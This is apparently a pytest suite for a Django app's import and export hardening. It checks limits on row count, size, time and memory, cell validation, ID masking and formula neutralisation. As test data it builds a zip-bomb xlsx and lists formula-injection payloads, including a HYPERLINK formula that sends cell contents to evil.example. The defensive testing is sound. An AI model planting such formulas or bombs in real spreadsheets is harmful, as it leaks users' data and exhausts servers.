"""Issue 10 (3, 4, 6, 7a): imports cannot exhaust the server; exports carry no live formulas;
hostile cells are cell errors; the children import keeps to the providers' slots."""

from __future__ import annotations

import csv
import datetime as dt
import io
import time
import tracemalloc
import zipfile
from types import SimpleNamespace
from typing import Any

import pytest
import xlsxwriter
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from python_calamine import CalamineWorkbook

from laoxiao.imports import base as import_base
from laoxiao.imports import parsers as p
from laoxiao.imports.base import ErrorSink, get_kind, parse_rows, run_import
from laoxiao.imports.exporters import neutralise, render
from laoxiao.people.models import Child
from laoxiao.people.tests.factories import make_child_id as id_number
from laoxiao.people.tests.factories import make_class, make_provider
from laoxiao.regions.models import PopulationFigure, Region

POP_HEADER = "region_code,year,population\n"


class Endless(io.RawIOBase):
    """A CSV that would be ``rows`` rows long, generated as it is read; counts the bytes read."""

    def __init__(self, header: str, line: str, rows: int):
        self.parts = iter([header.encode()] + [line.encode() * 1000] * (rows // 1000))
        self.buffer = b""
        self.read_bytes = 0
        self.name = "big.csv"

    def readable(self) -> bool:
        return True

    def readinto(self, b: Any) -> int:
        while len(self.buffer) < len(b):
            try:
                self.buffer += next(self.parts)
            except StopIteration:
                break
        data, self.buffer = self.buffer[: len(b)], self.buffer[len(b) :]
        b[: len(data)] = data
        self.read_bytes += len(data)
        return len(data)


def bomb_xlsx(rows: int, header: str = "region_code,year,population", declared: int | None = None) -> bytes:
    """An .xlsx whose one sheet holds ``rows`` rows, written as a stream (never in memory whole)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>",
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>",
        )
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            dim = f'<dimension ref="A1:C{declared}"/>' if declared else ""
            cells = "".join(
                f'<c r="{c}1" t="inlineStr"><is><t>{h}</t></is></c>'
                for c, h in zip("ABC", header.split(","), strict=False)
            )
            sheet.write(
                (
                    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    f'{dim}<sheetData><row r="1">{cells}</row>'
                ).encode()
            )
            block = "".join(
                f'<row r="{i}"><c r="A{i}"><v>340603001001</v></c><c r="B{i}"><v>2023</v></c>'
                f'<c r="C{i}"><v>1</v></c></row>'
                for i in range(2, 1002)
            ).encode()
            for _ in range(max(rows // 1000, 1)):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def bounded(fn: Any, *, seconds: float, megabytes: float) -> Any:
    tracemalloc.start()
    start = time.monotonic()
    try:
        result = fn()
    finally:
        elapsed = time.monotonic() - start
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert elapsed < seconds, f"took {elapsed:.1f} s"
    assert peak < megabytes * 1024 * 1024, f"peak {peak / 1e6:.0f} MB"
    return result


def messages(report: Any) -> str:
    return " ".join(e.reason_en for e in report.errors)


# --- 3. bounded reading -----------------------------------------------------------------------------


@override_settings(LAOXIAO_IMPORT_MAX_UNZIPPED_BYTES=5 * 1024 * 1024)
def test_a_zip_bomb_xlsx_is_refused_fast_with_bounded_memory(city: dict[str, Any], admin_user: Any) -> None:
    before = PopulationFigure.objects.count()
    data = bomb_xlsx(200_000)  # ~25 MB of sheet XML in a few hundred KB
    assert len(data) < 4 * 1024 * 1024
    report = bounded(
        lambda: run_import("population", io.BytesIO(data), actor=admin_user, filename="bomb.xlsx"),
        seconds=10,
        megabytes=40,
    )
    assert not report.ok and not report.written
    assert "expands to more than 5.0 MB" in messages(report)
    assert PopulationFigure.objects.count() == before


@override_settings(LAOXIAO_IMPORT_MAX_ROWS=100)
def test_an_xlsx_declaring_or_holding_too_many_rows_is_refused_before_the_sheet_is_expanded(
    city: dict[str, Any], admin_user: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*a: Any, **k: Any) -> Any:
        raise AssertionError("calamine was asked to expand the sheet")

    monkeypatch.setattr(CalamineWorkbook, "from_filelike", never)
    for data in (bomb_xlsx(1000, declared=1_000_000), bomb_xlsx(5000)):
        report = run_import("population", io.BytesIO(data), actor=admin_user, filename="big.xlsx")
        assert not report.ok
        assert "more than 100 rows" in messages(report)


@override_settings(LAOXIAO_IMPORT_MAX_ROWS=100)
def test_a_csv_over_the_row_limit_is_refused_without_reading_it_all(
    city: dict[str, Any], admin_user: Any
) -> None:
    before = PopulationFigure.objects.count()
    stream = Endless(POP_HEADER, "340603001001,2023,1\n", 2_000_000)  # a 2 M-row CSV, 42 MB
    report = bounded(
        lambda: run_import("population", stream, actor=admin_user, filename="big.csv"),
        seconds=10,
        megabytes=30,
    )
    assert not report.ok
    assert "more than 100 rows" in messages(report)
    assert stream.read_bytes < 1024 * 1024
    assert PopulationFigure.objects.count() == before


def test_a_bad_header_on_a_big_file_is_refused_before_any_row_is_parsed(
    city: dict[str, Any], admin_user: Any
) -> None:
    stream = Endless("region_code,year,populaton\n", "340603001001,2023,1\n", 2_000_000)
    report = bounded(
        lambda: run_import("population", stream, actor=admin_user, filename="big.csv"),
        seconds=5,
        megabytes=20,
    )
    assert {(e.row, e.value) for e in report.errors} == {(1, "populaton"), (1, "")}
    assert stream.read_bytes < 1024 * 1024


@override_settings(LAOXIAO_IMPORT_MAX_BYTES=1000)
def test_a_file_over_the_size_limit_is_refused_on_the_page_and_by_the_pipeline(
    client: Client, admin_user: Any
) -> None:
    text = POP_HEADER + "340603001001,2023,1\n" * 200
    before = PopulationFigure.objects.count()
    report = run_import("population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv")
    assert "larger than" in messages(report)
    client.force_login(admin_user)
    page = client.post(
        "/imports/", {"kind": "population", "file": SimpleUploadedFile("p.csv", text.encode(), "text/csv")}
    )
    assert page.status_code == 200
    assert "0.0 MB" in page.content.decode() or "MB" in page.content.decode()
    assert PopulationFigure.objects.count() == before


@override_settings(LAOXIAO_IMPORT_MAX_SECONDS=0)
def test_an_import_past_its_deadline_stops_with_a_clear_error(city: dict[str, Any], admin_user: Any) -> None:
    text = POP_HEADER + "340603001001,2023,1\n" * 2500
    before = PopulationFigure.objects.count()
    report = run_import("population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv")
    assert not report.ok
    assert "took longer than 0 seconds" in messages(report)
    assert PopulationFigure.objects.count() == before


@override_settings(LAOXIAO_IMPORT_MAX_ERRORS=5)
def test_the_error_report_is_capped_with_correct_counts_and_offered_as_a_file(
    city: dict[str, Any], admin_user: Any, client: Client
) -> None:
    text = (
        POP_HEADER
        + "".join(f"340603001001,{2000 + i},abc\n" for i in range(40))
        + "340603001002,abc,1\n" * 10
    )
    report = run_import("population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv")
    assert len(report.errors) == 5
    assert report.error_total == 50 and report.errors_truncated
    counts = {(c.column, c.reason_en): c.count for c in report.error_counts}
    assert counts == {("population", "Not a whole number."): 40, ("year", "Not a whole number."): 10}
    assert report.as_dict()["error_total"] == 50
    client.force_login(admin_user)
    html = client.post(
        "/imports/", {"kind": "population", "file": SimpleUploadedFile("p.csv", text.encode(), "text/csv")}
    ).content.decode()
    assert "50" in html and "/imports/errors.csv" in html
    got = client.get("/imports/errors.csv")
    assert got.status_code == 200 and got["Content-Type"].startswith("text/csv")
    lines = list(csv.reader(io.StringIO(got.content.decode("utf-8-sig"))))
    assert (
        len([row for row in lines if row and row[0].isdigit() and row[1] in ("population", "year")]) == 5 + 2
    )


def test_id_numbers_are_masked_in_error_reports(city: dict[str, Any], admin_user: Any) -> None:
    child_id = id_number("340603", dt.date(2025, 2, 1))
    text = (
        "id_number,name,region_code,guardian_phone\n"
        f"{child_id},小一,340603001001,13600000000\n"
        f"{child_id},小二,340603001001,1360000000x\n"
    )
    report = run_import("children", io.BytesIO(text.encode()), actor=admin_user, filename="c.csv")
    assert not report.ok
    dump = report.errors_csv() + str(report.as_dict())
    assert any(e.column == "id_number" and "Duplicate" in e.reason_en for e in report.errors)
    assert child_id not in dump
    assert "1360000000x" not in dump
    assert child_id[:6] + "********" + child_id[-4:] in dump


def test_a_chunked_write_gives_the_same_result_in_several_transactions(
    city: dict[str, Any], admin_user: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    codes = ["340603001001", "340603001002", "340621100001"]
    text = POP_HEADER + "".join(f"{c},{y},{n}\n" for c in codes for y, n in ((2031, 9), (2032, 7)))
    kind = get_kind("population")
    calls: list[int] = []
    original = type(kind).write
    atomic = import_base.transaction.atomic
    opened: list[int] = []

    def spy_write(self: Any, rows: list[Any], **kw: Any) -> Any:
        calls.append(len(rows))
        return original(self, rows, **kw)

    def spy_atomic(*a: Any, **k: Any) -> Any:
        opened.append(1)
        return atomic(*a, **k)

    monkeypatch.setattr(type(kind), "write", spy_write)
    monkeypatch.setattr(import_base, "transaction", SimpleNamespace(atomic=spy_atomic))
    seen: list[tuple[int, int | None]] = []
    with override_settings(LAOXIAO_IMPORT_CHUNK_ROWS=4):
        report = run_import(
            "population",
            io.BytesIO(text.encode()),
            actor=admin_user,
            filename="p.csv",
            progress=lambda done, total: seen.append((done, total)),
        )
    assert report.ok and report.written and report.result.created == 6
    assert calls == [4, 2] and report.chunks == 2 and len(opened) == 2
    assert seen[-2:] == [(4, 6), (6, 6)]
    chunked = set(
        PopulationFigure.objects.filter(year__gt=2030).values_list("region_id", "year", "population")
    )
    PopulationFigure.objects.filter(year__gt=2030).delete()
    calls.clear()
    report = run_import("population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv")
    assert calls == [6] and report.result.created == 6
    assert (
        set(PopulationFigure.objects.filter(year__gt=2030).values_list("region_id", "year", "population"))
        == chunked
    )
    again = run_import("population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv")
    assert again.result.unchanged == 6  # a rerun (after a crash, say) changes nothing more


def test_the_old_one_argument_progress_callback_still_counts_rows(
    city: dict[str, Any], admin_user: Any
) -> None:
    text = POP_HEADER + "340603001001,2023,1\n"
    got: list[int] = []
    report = run_import(
        "population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv", progress=got.append
    )
    assert report.written and sum(got) == 1


# --- 6. hostile cells -------------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["a\ud800b", "\udfff", "a\x00b", "x\x1by"])
def test_unencodable_text_and_control_characters_are_cell_errors(value: str) -> None:
    with pytest.raises(ValidationError):
        p.text(50)(value)
    kind = get_kind("population")
    sink = ErrorSink({})
    rows = parse_rows(kind, iter([["region_code", "year", "population"], [value, "2023", "1"]]), sink)
    assert len(rows) == 1 and sink.total == 1
    assert "not valid Unicode" in sink.errors[0].reason_en


@pytest.mark.parametrize("value", [str(2**63), str(2**64 + 1), "-" + str(2**63 + 1), str(2**31), "9" * 400])
def test_integers_beyond_the_column_are_cell_errors(value: str) -> None:
    with pytest.raises(ValidationError):
        p.integer(None)(value)


def test_an_integer_of_2_63_in_a_file_is_a_cell_error(city: dict[str, Any], admin_user: Any) -> None:
    text = POP_HEADER + f"340603001001,2023,{2**63}\n"
    report = run_import("population", io.BytesIO(text.encode()), actor=admin_user, filename="p.csv")
    assert [(e.row, e.column) for e in report.errors] == [(2, "population")]
    assert "at most 2147483647" in messages(report)


# --- 4. no live formulas in exports -----------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


def test_formula_cells_are_neutralised_in_csv_exports(city: dict[str, Any], admin_user: Any) -> None:
    communities = list(Region.objects.order_by("code")[: len(HOSTILE)])
    assert len(communities) == len(HOSTILE)
    for region, name in zip(communities, HOSTILE, strict=True):
        Region.objects.filter(pk=region.pk).update(name=name)
    data = render("regions", actor=admin_user, fmt="csv").decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(data, newline="")) for c in row]
    for name in HOSTILE:
        assert name not in cells, (name, [c for c in cells if "1+1" in c])
        assert "'" + name in cells
    assert neutralise(-5) == -5 and neutralise(3.5) == 3.5  # numbers stay numbers
    assert neutralise("-5") == "'-5"  # a text is a text


def test_xlsx_exports_write_formula_like_text_as_strings(city: dict[str, Any], admin_user: Any) -> None:
    region = Region.objects.filter(level=Region.Level.COMMUNITY).first()
    assert region is not None
    Region.objects.filter(pk=region.pk).update(name="=1+1")
    data = render("regions", actor=admin_user, fmt="xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert any("=1+1" in row for row in rows)
    assert xlsxwriter  # the writer under test


# --- 7a. capacity -----------------------------------------------------------------------------------


def test_the_children_import_refuses_rows_over_the_providers_slots(
    city: dict[str, Any], admin_user: Any
) -> None:
    provider = make_provider(uscc="52340603MA0000001X")
    make_class(provider, capacity=2)
    rows = "".join(
        f",Q34040000{i},小{i},F,2025-02-01,2025-02-04,340603001001,52340603MA0000001X\n" for i in range(1, 6)
    )
    text = (
        "id_number,birth_certificate_number,name,sex,birth_date,discharge_date,region_code,provider_uscc\n"
        + rows
    )
    report = run_import("children", io.BytesIO(text.encode()), actor=admin_user, filename="c.csv")
    assert not report.ok and not report.written
    assert [(e.row, e.column) for e in report.errors] == [
        (4, "provider_uscc"),
        (5, "provider_uscc"),
        (6, "provider_uscc"),
    ]
    assert "2 slots, 5 children" in messages(report)
    assert not Child.objects.exists()
    # the same file within the slots goes in, and a second import of it takes no slot twice
    make_class(provider, capacity=3)
    assert run_import("children", io.BytesIO(text.encode()), actor=admin_user, filename="c.csv").written
    assert run_import("children", io.BytesIO(text.encode()), actor=admin_user, filename="c.csv").ok
